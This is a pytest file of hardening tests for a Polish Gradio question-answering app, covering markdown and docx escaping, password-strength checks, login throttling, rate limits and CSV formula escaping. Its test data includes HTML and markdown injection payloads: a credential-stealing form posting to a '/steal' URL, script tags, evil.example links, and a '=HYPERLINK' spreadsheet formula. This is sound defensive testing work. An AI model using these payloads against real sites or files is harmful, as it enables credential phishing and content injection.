"""Hardening without a browser: escaping of report text, handouts, inputs, limits, start-up."""

from __future__ import annotations

import time

import docx
import markdown_it
import pytest

from praktyki import Engine, Settings, handout
from praktyki.admin import AccessDenied, AdminAuth
from praktyki.errors import EmptyCorpus, InvalidQuestion
from praktyki.escape import markdown_text
from praktyki.examples import Example
from praktyki.limits import LoginThrottle, RateLimited, TooLong, password_weakness
from praktyki.messages import describe_error

PAYLOAD = (
    '<form action="http://127.0.0.1:8999/steal"><input type="password"></form> '
    "![p](http://evil.example/p.png) [tu](http://evil.example/) http://evil.example/bare "
    "www.evil.example kontakt@evil.example"
)


def _rendered(markdown: str) -> str:
    return markdown_it.MarkdownIt("commonmark").render(markdown)


def test_markdown_text_leaves_no_tag_link_autolink_or_image():
    out = _rendered(markdown_text(PAYLOAD))
    for live in ("<form", "<input", "<img", "<a "):
        assert live not in out
    assert "&lt;form" in out
    # GFM autolinks (Gradio's renderer) work on the source text: nothing left to find there.
    escaped = markdown_text(PAYLOAD)
    assert "://" not in escaped and "www." not in escaped and "@" not in escaped


def test_handout_markdown_and_docx_keep_report_text_as_text(tmp_path):
    example = Example(
        doc_id="r",
        title="Raport ![t](http://evil.example/t.png)",
        organisations=("Fundacja <b>X</b>", "Spółdzielnia [Y](http://evil.example/y)"),
        region="łódzkie",
        date="2020-01-01",
        summary=f"Fundacja prowadzi kawiarnię. {PAYLOAD}\x00\x0b",
        sentences=(),
        chunk_id="r#0",
    )
    topic = "kawiarnie <script>alert(1)</script>"
    markdown = handout.to_markdown(topic, [example])
    assert "://" not in markdown
    out = _rendered(markdown)
    for live in ("<form", "<input", "<img", "<a ", "<script", "<b>"):
        assert live not in out
    path = handout.write_docx(tmp_path / "h.docx", topic, [example])
    texts = "\n".join(p.text for p in docx.Document(str(path)).paragraphs)
    assert "<form action=" in texts and "\x00" not in texts


# -- limits on public inputs -------------------------------------------------------------------

STRONG = "Tajne-Haslo-2026"


def _admin_engine(tmp_path, password: str = STRONG) -> Engine:
    from .fakes import HashEncoder

    settings = Settings(
        admin_user="admin",
        admin_password=password,
        app_db=tmp_path / "app.sqlite",
        corpus_dir=tmp_path / "corpus",
        index_dir=tmp_path / "index",
    )
    return Engine(settings, HashEncoder())


@pytest.mark.parametrize(
    "weak",
    ["1", "admin", "adminadmin12", "Xadmin-2026!", "aaaaaaaaaaaa", "Password-2026", "zażółćgęśl"],
)
def test_a_weak_admin_password_keeps_the_admin_tab_off(weak):
    assert password_weakness("admin", weak)
    auth = AdminAuth("admin", weak)
    assert not auth.enabled and auth.weakness
    with pytest.raises(AccessDenied):
        auth.login("admin", weak)


def test_strong_password_and_start_up_warnings():
    from praktyki.ui.security import start_up_warnings

    assert password_weakness("admin", STRONG) is None
    assert password_weakness("admin", "Tajne-Haslo-123") is None
    assert start_up_warnings(Settings(admin_user="admin", admin_password=STRONG)) == []
    beyond = start_up_warnings(Settings(host="0.0.0.0", admin_user="admin", admin_password="1"))
    assert len(beyond) == 2 and "HTTP" in beyond[0] and "za słabe" in beyond[1]
    assert start_up_warnings(Settings(host="0.0.0.0", ssl_certfile="c.pem", ssl_keyfile="k")) == []


def test_password_guessing_locks_the_client_out_for_longer_each_time():
    now = [0.0]
    throttle = LoginThrottle(clock=lambda: now[0])
    for _ in range(5):
        throttle.check("1.2.3.4")
        throttle.failed("1.2.3.4")
    throttle.check("1.2.3.4")
    throttle.failed("1.2.3.4")  # the sixth failure: 30 s
    with pytest.raises(RateLimited) as locked:
        throttle.check("1.2.3.4")
    assert locked.value.retry_after == 30
    throttle.check("5.6.7.8")  # another client is not affected
    now[0] = 31.0
    throttle.check("1.2.3.4")
    throttle.failed("1.2.3.4")  # the seventh: 60 s
    with pytest.raises(RateLimited) as locked:
        throttle.check("1.2.3.4")
    assert locked.value.retry_after == 60


def test_engine_login_is_throttled_and_audits_a_capped_user_name(tmp_path):
    engine = _admin_engine(tmp_path)
    huge = "u" * 1_000_000
    started = time.monotonic()
    for _ in range(6):
        with pytest.raises(AccessDenied):
            engine.login(huge, "zle", client="10.0.0.1")
    with pytest.raises(RateLimited) as locked:
        engine.login("admin", STRONG, client="10.0.0.1")  # even the right password waits
    assert "Zbyt wiele nieudanych prób logowania" in describe_error(locked.value)
    assert time.monotonic() - started < 10
    token = engine.login("admin", STRONG, client="10.0.0.2")
    entries = engine.audit_entries(token)
    assert max(len(e.user) for e in entries) <= 64
    engine.logout(token)
    with pytest.raises(AccessDenied):
        engine.audit_entries(token)
    other = engine.login("admin", STRONG, client="10.0.0.2")
    assert [e.action for e in engine.audit_entries(other)][:3] == ["login", "logout", "login"]


def test_feedback_is_capped_in_size_and_rate_per_client(tmp_path, fake_engine):
    from praktyki.feedback import FeedbackStore

    answer = fake_engine.ask("Która spółdzielnia socjalna prowadzi kino w Łodzi?")
    # Keep the shared engine's db aside.
    fake_engine._feedback = FeedbackStore(tmp_path / "app.sqlite")
    with pytest.raises(TooLong) as too_long:
        fake_engine.add_feedback(answer, 0, "x" * 5_000_000, client="10.0.0.3")
    assert "za długi" in describe_error(too_long.value)
    for _ in range(10):
        fake_engine.add_feedback(answer, 1, "", client="10.0.0.3")
    with pytest.raises(RateLimited) as limited:
        fake_engine.add_feedback(answer, 1, "", client="10.0.0.3")
    assert "Zbyt wiele opinii" in describe_error(limited.value)
    fake_engine.add_feedback(answer, -1, "", client="10.0.0.4")
    assert len(fake_engine.feedback.rows()) == 11


@pytest.mark.parametrize("question", ["🙂🙂🙂", "?!...", "  ¿¡ — … ", "👍 ?"])
def test_questions_without_words_are_declined_politely(fake_engine, question):
    with pytest.raises(InvalidQuestion) as declined:
        fake_engine.ask(question)
    assert "nie zawiera słów" in describe_error(declined.value)


@pytest.mark.parametrize(
    ("question", "polish"), [("", "Wpisz pytanie"), ("słowo " * 300, "za długie")]
)
def test_question_errors_are_polish(fake_engine, question, polish):
    with pytest.raises(InvalidQuestion) as declined:
        fake_engine.ask(question)
    assert polish in describe_error(declined.value)


def test_a_failed_reindex_is_audited(tmp_path):
    engine = _admin_engine(tmp_path)
    (tmp_path / "corpus").mkdir()
    token = engine.login("admin", STRONG)
    with pytest.raises(EmptyCorpus):
        engine.reindex(token)
    assert engine.audit_entries(token)[0].action == "reindex-failed"


def test_handout_files_leave_nothing_behind():
    files = handout.HandoutFiles(keep_seconds=0)
    first, _ = files.write("gastronomia", [])
    time.sleep(0.01)
    second, second_docx = files.write("gastronomia", [])
    assert not first.exists() and second.exists() and second_docx.exists()
    assert len(list(files.root.iterdir())) == 1
    files.close()
    assert not files.root.exists()


def test_a_full_queue_answers_busy_in_polish():
    """A real Gradio app behind our middleware, its queue bounded: the overflow is told, in
    Polish, to retry (Gradio's own page would show English text for its 503)."""
    import threading

    import gradio as gr
    import httpx

    from praktyki.ui import security

    release = threading.Event()

    def slow(text: str) -> str:
        release.wait(20)
        return text

    with gr.Blocks() as blocks:
        box = gr.Textbox()
        box.submit(slow, box, box, api_name="slow")
    blocks.queue(max_size=1, default_concurrency_limit=1)
    _, url, _ = blocks.launch(
        prevent_thread_lock=True,
        server_name="127.0.0.1",
        run_history=False,
        app_kwargs={"middleware": security.middleware(Settings())},
        quiet=True,
    )
    try:
        answers = [
            httpx.post(
                f"{url}gradio_api/queue/join",
                json={"data": ["x"], "fn_index": 0, "session_hash": f"s{i}", "event_data": None},
                timeout=10,
            )
            for i in range(4)
        ]
    finally:
        release.set()
        blocks.close()
    busy = [a for a in answers if a.status_code == security.BUSY_STATUS]
    assert busy, [a.status_code for a in answers]
    assert busy[0].json()["detail"].startswith("Serwis jest teraz zajęty")
    assert "Content-Security-Policy" in busy[0].headers


def test_feedback_export_escapes_formulas_and_the_app_db_is_private(tmp_path):
    import csv
    import stat

    from praktyki.feedback import FeedbackStore

    store = FeedbackStore(tmp_path / "app.sqlite")
    store.record(0, '=HYPERLINK("http://evil.example")', "+1", ["r#0"], "@SUM(A1)")
    store.record(1, "Ile osób?", "-2 osoby", ["r#1"], "dobrze")
    assert stat.S_IMODE((tmp_path / "app.sqlite").stat().st_mode) == 0o600
    store.export_csv(tmp_path / "out.csv")
    with (tmp_path / "out.csv").open(encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert rows[0]["question"] == '\'=HYPERLINK("http://evil.example")'
    assert rows[0]["comment"] == "'@SUM(A1)" and rows[0]["answer"] == "'+1"
    assert rows[1]["question"] == "Ile osób?" and rows[1]["answer"] == "'-2 osoby"
    assert rows[1]["rating"] == "1" and rows[0]["rating"] == "0"


def test_a_question_that_is_not_text_gets_a_polish_message(fake_engine):
    with pytest.raises(InvalidQuestion) as declined:
        fake_engine.ask(12345)  # type: ignore[arg-type]  # what an API caller may send
    assert "Wpisz pytanie" in describe_error(declined.value)
